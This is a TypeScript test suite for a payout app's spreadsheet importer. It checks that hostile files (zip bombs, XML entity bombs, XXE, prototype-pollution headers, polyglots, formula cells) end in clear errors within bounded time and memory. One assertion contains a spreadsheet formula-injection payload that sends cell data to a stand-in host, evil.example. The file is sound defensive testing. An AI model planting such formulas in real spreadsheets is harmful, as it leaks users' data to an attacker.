/**
 * Hostile and broken files (decision 27): each gets a clear message naming what is wrong, in bounded
 * time and memory; never a crash or a hang. Built at test time into a temp dir (corpus.ts).
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as XLSX from 'xlsx'
import { afterAll, describe, expect, it } from 'vitest'
import type { RunRow } from '../../../../../../../shared/domain/bulk-run'
import { reportTable } from '../../../../../../../electron/main/services/bulk/run/run-report'
import type { RunState } from '../../../../../../../electron/main/services/bulk/run/run-store'
import { writeExportTable } from '../../../../../../../electron/main/services/export/table-export'
import type { BulkFileError, BulkImportResult } from '../../../../../../../shared/domain/bulk'
import { importFile } from '../../../../../../../electron/main/services/bulk/import/import-file'
import {
  hugeDimensionXlsx,
  millionEmptyLinesCsv,
  protoHeaderCsv,
  randomBytes,
  truncatedXlsx,
  wideHeader,
  zipNotWorkbook,
} from '../../../../../../fixtures/sheets/corpus'
import {
  HOSTILE_NAMES,
  MAX_MAIN_LAG_MS,
  hostileCorpusDir,
  isClearMessage,
  mainAnswered,
  runReader,
} from '../../../../../hostile/hostile-corpus'
import type { ReaderOutcome } from '../../../../../hostile/hostile-corpus'

const dir = mkdtempSync(join(tmpdir(), 'payout-desk-hostile-'))
afterAll(() => rmSync(dir, { recursive: true, force: true }))

function written(name: string, bytes: Buffer): string {
  const file = join(dir, name)
  writeFileSync(file, bytes)
  return file
}

async function rejection(name: string, bytes: Buffer): Promise<BulkFileError['fileError']> {
  const result = await importFile({ path: written(name, bytes) }, { currency: 'NGN' })
  expect('fileError' in result, JSON.stringify(result).slice(0, 300)).toBe(true)
  return (result as BulkFileError).fileError
}

describe('hostile files', () => {
  it('an empty file', async () => {
    expect(await rejection('empty.csv', Buffer.alloc(0))).toEqual({
      code: 'empty_file',
      message: 'The file is empty (0 bytes).',
    })
  })

  it('random bytes', async () => {
    expect(await rejection('random.xlsx', randomBytes(200_000))).toEqual({
      code: 'not_a_spreadsheet',
      message:
        'The file is neither an Excel workbook nor CSV text (it contains binary data). Choose an .xlsx, .xls or .csv file.',
    })
  })

  it('a truncated workbook', async () => {
    expect(await rejection('truncated.xlsx', truncatedXlsx())).toEqual({
      code: 'unreadable',
      message:
        'The file looks like an Excel workbook (a ZIP) but is damaged or incomplete: it could not be opened. Save it again from Excel.',
    })
  })

  it('a ZIP that is not a workbook', async () => {
    expect(await rejection('archive.xlsx', zipNotWorkbook())).toEqual({
      code: 'not_a_workbook',
      message:
        'The file is a ZIP archive but not an Excel workbook (it has no xl/workbook.xml). Open it in Excel and save it as .xlsx or .csv.',
    })
  })

  it('a sheet declaring 1,000,000 rows by 16,000 columns', async () => {
    expect(await rejection('huge-dimension.xlsx', hugeDimensionXlsx())).toEqual({
      code: 'too_many_rows',
      message:
        'Sheet "Payouts" reaches down to row 1,000,000 (1,000,000 rows by 16,000 columns); a payout sheet can have at most 100,000 rows. Copy the payout rows to a new sheet.',
    })
  })

  it('10,000 header columns (CSV and XLSX)', async () => {
    expect(await rejection('wide.csv', wideHeader('csv'))).toEqual({
      code: 'too_many_columns',
      message:
        'Line 1 has more than 256 columns; a payout file has a handful. Is the delimiter right, or is this a payout file at all?',
    })
    expect(await rejection('wide.xlsx', wideHeader('xlsx'))).toEqual({
      code: 'too_many_columns',
      message:
        'Row 1 of sheet "Payouts" has 10,000 columns; a payout sheet has a handful (at most 256 are read). Delete the columns that are not payout data.',
    })
  })

  it('a million empty lines are skipped; the row after them keeps its line number', async () => {
    const result = (await importFile(
      { path: written('gap.csv', millionEmptyLinesCsv()) },
      { currency: 'NGN' },
    )) as BulkImportResult
    expect([result.rows, result.valid, result.errors]).toEqual([1, 1, []])
    expect(result.items.map((item) => [item.row, item.reference])).toEqual([[1_000_002, 'E-00001']])
  })

  it('"__proto__" and "constructor" headers are plain text: ignored when unmapped, kept as keys when mapped, nothing polluted', async () => {
    const file = written('proto.csv', protoHeaderCsv())
    const auto = (await importFile({ path: file }, { currency: 'NGN' })) as BulkImportResult
    expect([auto.rows, auto.valid, auto.errors]).toEqual([1, 1, []])
    expect(Object.keys(auto.header.columns)).not.toContain('__proto__')

    const mapped = (await importFile(
      { path: file },
      {
        currency: 'NGN',
        mapping: [
          'narration',
          'reference',
          'amount',
          'bank_code',
          'account_number',
          'customer_name',
          'customer_email',
          null,
          null,
        ],
      },
    )) as BulkImportResult
    // As JSON (what check-sheet prints and IPC carries): "__proto__" is an own key like any other.
    expect(Object.entries(JSON.parse(JSON.stringify(mapped.header.columns)) as object)).toEqual([
      ['__proto__', 'narration'],
      ['Reference', 'reference'],
      ['Amount (NGN)', 'amount'],
      ['Bank Code', 'bank_code'],
      ['Acct No', 'account_number'],
      ['Beneficiary Name', 'customer_name'],
      ['E-mail', 'customer_email'],
    ])
    expect(mapped.items[0]?.narration).toBe('polluted')
    expect(({} as Record<string, unknown>).narration).toBeUndefined()
  })

  it('a CSV cut inside a quoted field', async () => {
    expect(await rejection('cut.csv', Buffer.from('reference,amount\nR-00001,"10.00\n'))).toEqual({
      code: 'csv_unterminated_quote',
      message: 'The quoted field that starts on line 2 is never closed: the file may be cut short.',
    })
  })

  it('a file that is not there', async () => {
    const missing = join(dir, 'missing.csv')
    expect(await importFile({ path: missing }, { currency: 'NGN' })).toEqual({
      file: missing,
      fileError: { code: 'file_not_found', message: `The file ${missing} could not be found or opened.` },
    })
  })

  it('a sheet without a header, and one missing required columns', async () => {
    expect(await rejection('notes.csv', Buffer.from('hello,world\nfoo,bar\n'))).toEqual({
      code: 'no_header',
      message:
        'No header row found in the first 30 rows of sheet "notes": expected a row naming columns such as amount, bank code, account number, customer name.',
    })
    expect(
      await rejection('partial.csv', Buffer.from('Amount,Bank Code,Account Number,Name\n10,044,0123456789,A\n')),
    ).toEqual({
      code: 'missing_columns',
      message:
        'No column for customer e-mail, narration (give one customer e-mail and one narration for the whole run instead). Columns found: "Amount", "Bank Code", "Account Number", "Name".',
    })
  })
})

/**
 * The whole hostile corpus (tests/fixtures/hostile/, decision 27) through the importer as the app
 * runs it: the Sheet step's look at the file, then the import in its worker. Each file ends in a
 * clear error naming the file, or in the result written here, within bounded time and memory. The
 * child's peak RSS includes the import workers (threads of that process).
 */
describe('the hostile corpus through the importer', () => {
  /** What each file gives: rows read / valid rows, or the error's code. */
  const EXPECTED: Record<string, string> = {
    'empty.csv': 'empty_file',
    'only-utf8-bom.csv': 'sheet_empty',
    'only-utf16le-bom.csv': 'sheet_empty',
    'only-newlines.csv': 'sheet_empty',
    'only-delimiters.csv': 'no_header',
    'binary-noise.bin': 'not_a_spreadsheet',
    'binary-noise.xlsx': 'not_a_spreadsheet',
    'binary-noise.csv': 'not_a_spreadsheet',
    'csv-named.xlsx': '2/2',
    'xlsx-named.csv': '2/2',
    'pdf-named.xlsx': 'not_a_spreadsheet',
    'png-named.csv': 'not_a_spreadsheet',
    'jpeg-named.xls': 'not_a_spreadsheet',
    'exe-named.xlsx': 'not_a_spreadsheet',
    'elf-named.csv': 'not_a_spreadsheet',
    'rtf-named.csv': 'not_a_spreadsheet',
    'html-saved-as.xls': 'not_a_spreadsheet',
    'spreadsheetml-2003.xls': 'not_a_spreadsheet',
    'legacy-biff8.xls': '2/2',
    'legacy-biff5.xls': '2/2',
    'legacy-biff2.xls': 'not_a_spreadsheet',
    'truncated.xls': 'unreadable',
    'opendocument.ods': 'not_a_workbook',
    'binary-workbook.xlsb': '2/2',
    'truncated.xlsx': 'unreadable',
    'truncated-directory.xlsx': 'unreadable',
    'zip-not-workbook.xlsx': 'not_a_workbook',
    'zip-empty-archive.xlsx': 'not_a_workbook',
    'zip-encrypted-entry.xlsx': 'unreadable',
    // Its directory declares 10 bytes for a sheet that holds more: refused, its sizes lie (decision 101).
    'zip-lying-size.xlsx': 'too_large',
    'zip-traversal-names.xlsx': '2/2',
    'zip-in-zip.xlsx': 'sheet_empty',
    'broken-sheet-xml.xlsx': 'sheet_empty',
    'broken-workbook-xml.xlsx': 'unreadable',
    'missing-sheet-part.xlsx': 'unreadable',
    // Entities are never expanded and external ones never fetched: the text stays as written.
    'xml-billion-laughs.xlsx': '1/1',
    'xml-external-entity.xlsx': '1/1',
    'xml-deep-nesting.xlsx': '1/0',
    'xml-utf16.xlsx': '2/2',
    'shared-string-out-of-range.xlsx': 'unreadable',
    'shared-strings-count-lie.xlsx': '2/2',
    'proto-sheet-names.xlsx': '2/2',
    'proto-headers.csv': '1/1',
    'proto-headers.xlsx': '1/1',
    'huge-dimension.xlsx': 'too_many_rows',
    'far-cell.xlsx': 'too_many_rows',
    'rows-out-of-order.xlsx': '2/2',
    'cell-errors-and-booleans.xlsx': '1/0',
    // Formula text is read as text (cached values; never evaluated); without a cached value, empty.
    // Its rows pay one account the same amount under other references and narrations: six asked about.
    'formulas.xlsx': '7/1',
    'formulas-no-cache.xlsx': '7/0',
    'formulas.csv': '7/1',
    'utf16le-bom.csv': '2/2',
    'utf16le-no-bom.csv': '2/2',
    'utf16be-bom.csv': '2/2',
    'utf16be-no-bom.csv': '2/2',
    'windows-1252.csv': '1/1',
    'latin1.csv': '1/1',
    'shift-jis.csv': '5/5',
    'gbk.csv': '5/5',
    'utf8-invalid-sequences.csv': '1/1',
    'utf32le-bom.csv': '2/2',
    'nul-bytes.csv': 'not_a_spreadsheet',
    'unterminated-quote.csv': 'csv_unterminated_quote',
    'carriage-returns-only.csv': '2/2',
    // A right-to-left override in a name is refused on its row.
    'bidi-and-zero-width.csv': '1/0',
    'identity-scan.png': 'not_a_spreadsheet',
    'svg-with-script.png': 'not_a_spreadsheet',
    'polyglot.jpg': 'not_a_spreadsheet',
    'truncated.png': 'not_a_spreadsheet',
    'pdf-with-javascript.pdf': 'not_a_spreadsheet',
    // Our history exports are not payout sheets: they lack bank code, account and e-mail columns.
    'export-clean.xlsx': 'missing_columns',
    'export-clean.csv': 'missing_columns',
    'export-formulas.xlsx': 'missing_columns',
    'export-formulas.csv': 'missing_columns',
    'export-proto-column.xlsx': 'missing_columns',
    'export-rows-removed.xlsx': 'missing_columns',
    'export-amount-text.csv': 'missing_columns',
    'large-50mb.csv': 'too_many_rows',
    'over-limit-70mb.csv': 'too_large',
    'zip-bomb.xlsx': 'too_large',
    'zip-bomb-under-limit.xlsx': 'too_large',
    'export-bomb.xlsx': 'too_large',
    'million-empty-rows.csv': '1/1',
    'million-empty-rows.xlsx': 'too_many_rows',
    'wide-10000-columns.csv': 'too_many_columns',
    'wide-10000-columns.xlsx': 'too_many_columns',
    // A 1 MB narration is read whole, and refused on its row (at most 255 characters are sent).
    'cell-1mb.csv': '1/0',
    'cell-1mb.xlsx': '1/0',
    'huge-shared-strings.xlsx': '1/1',
    'many-zip-entries.xlsx': 'too_large',
    // Lying sizes are stopped as the parts are really unpacked (decision 101).
    'zip-lying-size-1mb.xlsx': 'too_large',
    'zip-lying-size-4mb.xlsx': 'too_large',
    'shared-strings-lying-size.xlsx': 'too_large',
    // History exports, not payout sheets.
    'export-huge-shared-strings.xlsx': 'missing_columns',
    'xml-deep-nesting-export.xlsx': 'missing_columns',
    'one-line-10mb.csv': 'no_header',
    'rows-200k.csv': 'too_many_rows',
  }
  /** Generous bounds: a reader gone unbounded (a bomb inflated, a sheet read whole) passes them by far. */
  const MAX_MS_PER_FILE = 45_000
  const MAX_PEAK_RSS_MB = 1_200

  it('ends every file in a clear error or the expected result, in bounded time and memory, polluting nothing', async () => {
    const outcomes = await runReader('bulk', { timeoutMs: 900_000 })
    expect(outcomes.map((outcome) => outcome.name)).toEqual(HOSTILE_NAMES)
    expect(Object.keys(EXPECTED).sort()).toEqual([...HOSTILE_NAMES].sort())
    const got = (outcome: ReaderOutcome): string =>
      outcome.outcome === 'ok'
        ? (/(\d+) rows, (\d+) valid/
            .exec(outcome.result ?? '')
            ?.slice(1, 3)
            .join('/') ?? String(outcome.result))
        : `${outcome.code}`
    expect(Object.fromEntries(outcomes.map((outcome) => [outcome.name, got(outcome)]))).toEqual(EXPECTED)
    for (const outcome of outcomes) {
      expect(outcome.outcome, `${outcome.name}: ${outcome.message ?? ''}`).not.toBe('crash')
      if (outcome.outcome === 'refused') {
        expect(outcome.file?.endsWith(`/${outcome.name}`), `${outcome.name} names its file`).toBe(true)
        expect(isClearMessage(outcome.message, null), outcome.message).toBe(true)
      }
      expect(outcome.ms, `${outcome.name} took ${outcome.ms} ms`).toBeLessThan(MAX_MS_PER_FILE)
      // Read in the import worker, as the app reads it: main keeps answering throughout.
      const [lag, said] = mainAnswered(outcome)
      expect(lag, said).toBeLessThan(MAX_MAIN_LAG_MS)
      expect(outcome.peakRssMb, `peak RSS ${outcome.peakRssMb} MB after ${outcome.name}`).toBeLessThan(MAX_PEAK_RSS_MB)
      expect(outcome.polluted, `${outcome.name} polluted Object.prototype`).toBe(false)
    }
    // Formula text stays text: never evaluated (the cached value or nothing), as the cell was written.
    expect(outcomes.find((outcome) => outcome.name === 'formulas.xlsx')?.result).toContain('=HYPERLINK(')
    expect(outcomes.find((outcome) => outcome.name === 'xml-external-entity.xlsx')?.result).toContain('"&xxe;"')
  }, 1_000_000)
})

describe('formula cells of an imported sheet', () => {
  it('stay text through the import and are neutralised in the run report, XLSX and CSV alike', async () => {
    const corpus = hostileCorpusDir()
    for (const name of ['formulas.xlsx', 'formulas.csv']) {
      const result = (await importFile({ path: join(corpus, name) }, { currency: 'NGN' })) as BulkImportResult
      const narrations = result.items.map((item) => item.narration)
      expect(narrations).toContain('=HYPERLINK("http://evil.example/steal?d="&A2,"Click for details")')
      const rows = result.items.map((item, index): RunRow => ({
        index,
        item,
        excluded: false,
        errors: [],
        warnings: [],
        resolution: 'not_needed' as RunRow['resolution'],
        status: 'not_sent' as RunRow['status'],
      }))
      const table = reportTable({ id: 'BR-hostile', currency: 'NGN' } as RunState, rows)
      const out = join(dir, `report-of-${name}`)
      await writeExportTable(table, `${out}.xlsx`, 'xlsx')
      await writeExportTable(table, `${out}.csv`, 'csv')
      const book = XLSX.read(readFileSync(`${out}.xlsx`), { type: 'buffer', cellFormula: true })
      const sheet = book.Sheets[book.SheetNames[0] as string] as XLSX.WorkSheet
      const cells = Object.entries(sheet).filter(([ref]) => /^[A-Z]+\d+$/.test(ref)) as Array<[string, XLSX.CellObject]>
      expect(cells.filter(([, cell]) => cell.f !== undefined)).toEqual([])
      const texts = cells.map(([, cell]) => String(cell.v))
      for (const narration of narrations.filter((text) => /^[=+\-@]/.test(text))) {
        expect(texts).toContain(`'${narration}`)
        expect(texts).not.toContain(narration)
      }
      const csv = readFileSync(`${out}.csv`, 'utf8')
      expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m)
    }
  })
})
